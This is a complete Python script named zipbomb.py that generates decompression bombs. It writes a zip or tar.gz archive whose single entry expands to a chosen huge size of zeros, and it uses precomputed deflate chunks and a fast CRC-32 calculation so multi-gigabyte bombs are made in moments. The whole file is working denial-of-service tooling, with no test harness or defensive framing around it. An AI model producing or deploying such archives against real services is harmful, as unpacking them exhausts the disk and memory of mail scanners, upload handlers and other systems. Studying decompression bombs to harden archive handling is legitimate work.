#!/usr/bin/env python3
"""Writes an archive whose one entry expands far more than its size: a zip
(deflate) or a tar.gz holding SIZE bytes of zeros. The deflate stream is one
compressed chunk of zeros, ended by a full flush so that it is byte-aligned
and needs no earlier bytes, repeated: writing a 10 GiB entry takes a moment,
not the minutes compressing it would. The CRC-32 is computed by powers of the
byte-shift map, not over the bytes.

Usage: zipbomb.py zip|tgz OUT SIZE [NAME]"""
import struct
import sys
import zlib

CHUNK = 1 << 20


def deflate_zeros(size):
    """Raw deflate chunks for SIZE zero bytes (SIZE a multiple of CHUNK)."""
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = c.compress(bytes(CHUNK)) + c.flush(zlib.Z_FULL_FLUSH)
    for _ in range(size // CHUNK):
        yield piece
    yield b"\x03\x00"  # a final, empty fixed-Huffman block


def gf2_apply(mat, vec):
    out, i = 0, 0
    while vec:
        if vec & 1:
            out ^= mat[i]
        vec >>= 1
        i += 1
    return out


def gf2_square(mat):
    return [gf2_apply(mat, mat[i]) for i in range(32)]


def shift_zeros(reg, size):
    """The CRC-32 register after SIZE zero bytes, from REG: a linear map,
    applied as a product of its powers of two (O(log SIZE))."""
    odd = [0xEDB88320] + [1 << i for i in range(31)]  # one zero bit
    even = gf2_square(odd)                            # two bits
    odd = gf2_square(even)                            # four bits
    n = size
    while n:
        even = gf2_square(odd)                        # one byte, then 4, 16...
        if n & 1:
            reg = gf2_apply(even, reg)
        n >>= 1
        if not n:
            break
        odd = gf2_square(even)
        if n & 1:
            reg = gf2_apply(odd, reg)
        n >>= 1
    return reg


def crc32_zeros(size):
    """CRC-32 of SIZE zero bytes."""
    return shift_zeros(0xFFFFFFFF, size) ^ 0xFFFFFFFF


def crc_combine(crc1, crc2, len2):
    """CRC-32 of A + B from crc(A), crc(B) and len(B)."""
    return shift_zeros(crc1, len2) ^ crc2


def write_zip(out, size, name):
    name = name.encode()
    crc = crc32_zeros(size)
    body = list(deflate_zeros(size))
    csize = sum(len(b) for b in body)
    z64 = size >= 0xFFFFFFFF or csize >= 0xFFFFFFFF
    extra = struct.pack("<HHQQ", 1, 16, size, csize) if z64 else b""
    s32 = 0xFFFFFFFF if z64 else size
    c32 = 0xFFFFFFFF if z64 else csize
    ver = 45 if z64 else 20
    with open(out, "wb") as f:
        f.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, ver, 0, 8, 0, 0x21, crc, c32, s32,
                            len(name), len(extra)) + name + extra)
        for b in body:
            f.write(b)
        cd_at = f.tell()
        cextra = struct.pack("<HHQQQ", 1, 24, size, csize, 0) if z64 else b""
        cd = struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, ver, ver, 0, 8, 0, 0x21, crc, c32,
                         s32, len(name), len(cextra), 0, 0, 0, 0,
                         0xFFFFFFFF if z64 else 0) + name + cextra
        f.write(cd)
        end = f.tell()
        if z64:
            f.write(struct.pack("<IQHHIIQQQQ", 0x06064B50, 44, ver, ver, 0, 0, 1, 1, len(cd),
                                cd_at))
            f.write(struct.pack("<IIQI", 0x07064B50, 0, end, 1))
        f.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, 1, 1, len(cd),
                            0xFFFFFFFF if z64 else cd_at, 0))


def write_tgz(out, size, name):
    """A tar of one entry, gzip-compressed the same way."""
    hdr = bytearray(512)
    hdr[0:len(name)] = name.encode()
    hdr[100:108] = b"0000644\0"
    hdr[108:116] = b"0000000\0"
    hdr[116:124] = b"0000000\0"
    hdr[124:136] = b"%011o\0" % size if size < 8 ** 11 else b"\x80" + size.to_bytes(11, "big")
    hdr[136:148] = b"00000000000\0"
    hdr[156:157] = b"0"
    hdr[257:263] = b"ustar\0"
    hdr[263:265] = b"00"
    hdr[148:156] = b" " * 8
    hdr[148:156] = b"%06o\0 " % sum(hdr)
    tail = bytes(1024)
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = c.compress(bytes(hdr)) + c.flush(zlib.Z_FULL_FLUSH)
    body = list(deflate_zeros(size))[:-1]
    end = c.compress(tail) + c.flush(zlib.Z_FINISH)
    crc = zlib.crc32(bytes(hdr))
    crc = zlib.crc32(tail, crc_combine(crc, crc32_zeros(size), size))
    with open(out, "wb") as f:
        f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + head)
        for b in body:
            f.write(b)
        f.write(end)
        f.write(struct.pack("<II", crc, (512 + size + 1024) & 0xFFFFFFFF))


def main():
    kind, out, size = sys.argv[1], sys.argv[2], int(sys.argv[3])
    name = sys.argv[4] if len(sys.argv) > 4 else "zeros.bin"
    if size % CHUNK:
        sys.exit("SIZE must be a multiple of 1 MiB")
    (write_zip if kind == "zip" else write_tgz)(out, size, name)


if __name__ == "__main__":
    main()
